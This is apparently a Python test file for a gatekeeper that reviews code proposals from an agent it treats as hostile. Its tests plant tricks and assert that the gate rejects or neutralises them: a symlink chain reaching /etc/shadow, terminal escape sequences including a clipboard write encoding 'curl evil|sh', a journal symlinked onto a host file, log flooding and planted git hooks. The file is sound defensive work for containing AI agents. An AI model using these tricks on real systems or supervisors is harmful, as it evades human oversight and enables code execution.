"""A hostile agent's tricks that need no test run to stop: symlink chains, terminal escapes, a flood
of rejected proposals, a sabotaged journal. Real git, the real `Gatekeeper.submit`; the gatekeeper's
engine refuses to start any container (each verdict here must come before one would)."""

from __future__ import annotations

import os
from pathlib import Path

import click
from click.testing import CliRunner

from supervisor.base.errors import OuroborosError
from supervisor.cli import OuroborosGroup
from supervisor.cli import main as cli
from supervisor.cli.terminal_text import terminal_safe
from supervisor.gate.config import RetentionPolicy
from supervisor.gate.gatekeeper import Gatekeeper
from supervisor.gate.retention import Rejected, enforce, select_expired, space
from supervisor.store.decision_log import DecisionLog
from tests.gate.repo_factory import git, proposal, write_tree

BREAK = {"agent/calc.py": "def add(a, b):\n    return a + b + 1\n"}
# Clear screen, conceal, move the cursor up over a line, set the title, write the clipboard (OSC 52),
# a C1 CSI, and a right-to-left override.
ESCAPES = "\x1b[2J\x1b[8mhidden\x1b[0m\x1b[1A\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J\u202eevil"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def _submit(gatekeeper: Gatekeeper, plant, summary: str = "improve", why: str = "because"):
    main = gatekeeper.main()
    candidate = gatekeeper.create_candidate()
    plant(Path(candidate.worktree))
    verdict = gatekeeper.submit(candidate, proposal(summary, why=why))
    assert gatekeeper.main() == main
    return verdict


def test_a_symlink_chain_that_climbs_out_is_rejected(offline_gatekeeper: Gatekeeper) -> None:
    def plant(ws: Path) -> None:
        write_tree(ws, BREAK)
        os.symlink("..", ws / "agent" / "b")
        os.symlink("b/..", ws / "agent" / "u1")
        for n in range(2, 31):
            os.symlink(f"u{n - 1}/..", ws / "agent" / f"u{n}")
        os.symlink("u30/etc/shadow", ws / "agent" / "x")

    verdict = _submit(offline_gatekeeper, plant)
    assert verdict.state == "rejected"
    assert verdict.reasons[0].startswith("symlinks resolve outside the tree")
    assert "agent/u1 -> 'b/..'" in verdict.reasons[0] and "agent/b -> " not in verdict.reasons[0]


def test_show_candidates_log_and_errors_print_escapes_visibly(offline_gatekeeper: Gatekeeper) -> None:
    def plant(ws: Path) -> None:
        write_tree(ws, {**BREAK, "gate.toml": f"# {ESCAPES}\n", f"agent/{ESCAPES[:8]}.py": f"X = '{ESCAPES}'\n"})

    verdict = _submit(offline_gatekeeper, plant, summary=f"fix {ESCAPES}", why=f"why {ESCAPES}")
    assert verdict.state == "rejected"
    runner, repo = CliRunner(), ["--repo", str(offline_gatekeeper.common)]
    for args in (["show", verdict.candidate], ["candidates"], ["log"]):
        result = runner.invoke(cli, [*args, *repo])
        assert result.exit_code == 0, result.output
        assert not any(char in result.output for char in RAW), args
    shown = runner.invoke(cli, ["show", verdict.candidate, *repo]).output
    assert "fix \\x1b[2J\\x1b[8mhidden" in shown and "\\x1b]52;c;" in shown and "\\u202eevil" in shown
    assert "+X = '\\x1b[2J" in shown  # the diff line is there, visible


def test_error_messages_are_terminal_safe() -> None:
    @click.group(cls=OuroborosGroup)
    def group() -> None:
        pass

    @group.command()
    def boom() -> None:
        raise OuroborosError(f"git said: {ESCAPES}")

    result = CliRunner().invoke(group, ["boom"])
    assert result.exit_code == 1 and "\\x1b]0;pwned\\x07" in result.output
    assert not any(char in result.output for char in RAW)


def test_terminal_safe_keeps_text_and_escapes_controls() -> None:
    assert terminal_safe("naïve — ok\n\tindent") == "naïve — ok\n\tindent"
    assert terminal_safe("a\rb\x00c\x7fd\u2028e\u200bf") == "a\\x0db\\x00c\\x7fd\\u2028e\\u200bf"


def test_logs_and_status_are_terminal_safe_and_status_shows_space(tmp_path: Path) -> None:
    from supervisor.store.instance_init import init_instance

    instance = init_instance(tmp_path / "home")
    instance.agent_log.parent.mkdir(parents=True, exist_ok=True)
    instance.agent_log.write_text(f"agent says {ESCAPES}\n")
    logs = CliRunner().invoke(cli, ["logs", "--home", str(instance.home)])
    assert logs.exit_code == 0 and "agent says \\x1b[2J" in logs.output
    assert not any(char in logs.output for char in RAW)
    status = CliRunner().invoke(cli, ["status", "--home", str(instance.home)])
    assert (
        status.exit_code == 3 and "repository " in status.output
    )  # 3: no supervisor runs and "0 rejected proposals kept" in status.output


def test_rejected_proposals_are_kept_under_a_retention_policy(offline_gatekeeper: Gatekeeper, tmp_path: Path) -> None:
    # The policy comes from main's gate.toml, which a proposal can never change.
    _set_gate_toml(offline_gatekeeper, tmp_path, "[gate.retention]\nkeep = 2\nprune_grace_s = 0\ngc_every_s = 0\n")
    kept_blobs = []
    for _ in range(4):
        bulk = os.urandom(64 * 1024).hex()
        verdict = _submit(
            offline_gatekeeper,
            lambda ws, bulk=bulk: write_tree(ws, {**BREAK, "gate.toml": "[gate]\n", "agent/bulk.txt": bulk}),
        )
        assert verdict.state == "rejected"
        kept_blobs.append(offline_gatekeeper.git.out("hash-object", "--stdin", input=bulk.encode()))
    rejected = offline_gatekeeper.git.refs("refs/ouroboros/rejected")
    assert len(rejected) == 2
    present = [_has_object(offline_gatekeeper, sha) for sha in kept_blobs]
    assert present == [False, False, True, True]  # the two oldest are pruned from the object store
    report = space(offline_gatekeeper.git, offline_gatekeeper.state_dir)
    assert report.rejected == 2 and report.rejected_bytes > 2 * 64 * 1024 and report.objects_bytes > 0
    assert offline_gatekeeper.log.verify().ok
    oldest = sorted(offline_gatekeeper.store.newest(0)[0], key=lambda r: r.created_at)[0]
    shown = CliRunner().invoke(cli, ["show", oldest.id, "--repo", str(offline_gatekeeper.common)])
    assert shown.exit_code == 0 and "pruned under the rejected-proposal retention policy" in shown.output


def test_retention_selects_by_count_age_and_size() -> None:
    day, mb = 86400, 1024 * 1024
    kept = [Rejected(ref=f"r{n}", commit=f"{n}" * 40, at=1000 * day - n * day, bytes=40 * mb) for n in range(10)]
    now = 1000 * day
    assert [r.ref for r in select_expired(kept, RetentionPolicy(keep=3), now)] == [f"r{n}" for n in range(3, 10)]
    assert [r.ref for r in select_expired(kept, RetentionPolicy(max_age_days=4.5), now)][0] == "r5"
    assert [r.ref for r in select_expired(kept, RetentionPolicy(max_total_mb=100), now)][0] == "r2"
    assert select_expired(kept, RetentionPolicy(keep=100, max_age_days=100, max_total_mb=1000), now) == []


def test_retention_never_raises_on_a_broken_config(offline_gatekeeper: Gatekeeper) -> None:
    def broken() -> RetentionPolicy:
        raise OuroborosError("gate.toml is not valid TOML")

    result = enforce(offline_gatekeeper.git, broken, offline_gatekeeper.state_dir)
    assert result.deleted == [] and "not valid TOML" in result.error


def test_a_sabotaged_journal_cannot_flood_the_decision_log(offline_gatekeeper: Gatekeeper, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("host\n")
    day = offline_gatekeeper.journal.write("setup", "x").parent
    (day / "notes.md").unlink()
    os.symlink(victim, day / "notes.md")
    verdicts = [
        _submit(offline_gatekeeper, lambda ws: write_tree(ws, {**BREAK, "gate.toml": "[gate]\n"})) for _ in range(5)
    ]
    assert all(v.state == "rejected" for v in verdicts)
    kinds = [record.kind for record in offline_gatekeeper.log.records()]
    assert kinds.count("rejected") == 5 and kinds.count("journal-refused") == 1
    assert victim.read_text() == "host\n"


def test_repeatable_kinds_are_throttled_and_counted(tmp_path: Path) -> None:
    log = DecisionLog(tmp_path / "decisions.jsonl", throttle_s=0.2)
    for _ in range(50):
        log.append("journal-refused", details={"kind": "proposal-dropped"})
        log.append("route-refused", details={})
    log.append("rejected", candidate="1-1")
    log.append("rejected", candidate="1-2")  # verdicts are never throttled
    import time

    time.sleep(0.25)
    last = log.append("journal-refused", details={"kind": "x"})
    assert last is not None and last.details["suppressed"] == 49
    kinds = [record.kind for record in log.records()]
    assert kinds.count("journal-refused") == 2 and kinds.count("route-refused") == 1 and kinds.count("rejected") == 2
    assert log.verify().ok


def _set_gate_toml(gatekeeper: Gatekeeper, tmp_path: Path, text: str) -> None:
    """The operator changes main's gate.toml by hand (a commit the gate adopts)."""
    main = gatekeeper.main()
    blob = gatekeeper.git.out("hash-object", "-w", "--stdin", input=f"[gate]\ndeadline_s = 60\n{text}".encode())
    entries = [
        e if e.path != "gate.toml" else type(e)(e.mode, e.kind, blob, e.path) for e in gatekeeper.git.ls_tree(main)
    ]
    tree = gatekeeper.git.tree_from_entries(entries, tmp_path)
    commit = gatekeeper.git.commit_tree(tree, [main], "operator: retention")
    gatekeeper.git.update_ref("refs/heads/main", commit, main)


def _has_object(gatekeeper: Gatekeeper, sha: str) -> bool:
    return gatekeeper.git.run("cat-file", "-e", sha, check=False).returncode == 0


def test_git_runs_no_hook_from_the_tree_during_prune(offline_gatekeeper: Gatekeeper, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    hooks = offline_gatekeeper.common / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-auto-gc", "post-rewrite", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (hooks / name).chmod(0o755)
    _set_gate_toml(offline_gatekeeper, tmp_path, "[gate.retention]\nkeep = 0\nprune_grace_s = 0\ngc_every_s = 0\n")
    verdict = _submit(offline_gatekeeper, lambda ws: write_tree(ws, {**BREAK, "gate.toml": "[gate]\n"}))
    assert verdict.state == "rejected" and offline_gatekeeper.git.refs("refs/ouroboros/rejected") == {}
    assert not marker.exists()
    git(offline_gatekeeper.common, "fsck", "--no-progress")  # nothing main needs was pruned


def test_the_graft_holds_mains_test_folder_even_if_the_candidate_replaced_it_by_a_link(
    offline_gatekeeper: Gatekeeper, tmp_path: Path
) -> None:
    from supervisor.base.git_ops import TreeEntry
    from supervisor.gate.config import GateConfig

    git_ = offline_gatekeeper.git
    main = offline_gatekeeper.main()
    link = git_.out("hash-object", "-w", "--stdin", input=b"../elsewhere")
    entries = [e for e in git_.ls_tree(main) if not e.path.startswith("agent/tests/")]
    tree = git_.tree_from_entries([*entries, TreeEntry("120000", "blob", link, "agent/tests")], tmp_path)
    commit = git_.commit_tree(tree, [main], "tests folder is now a link")
    grafted = offline_gatekeeper.gate_runner.graft_tests(commit, main, GateConfig())
    paths = {e.path: e.mode for e in git_.ls_tree(grafted)}
    assert "agent/tests" not in paths and paths["agent/tests/test_calc.py"] == "100644"
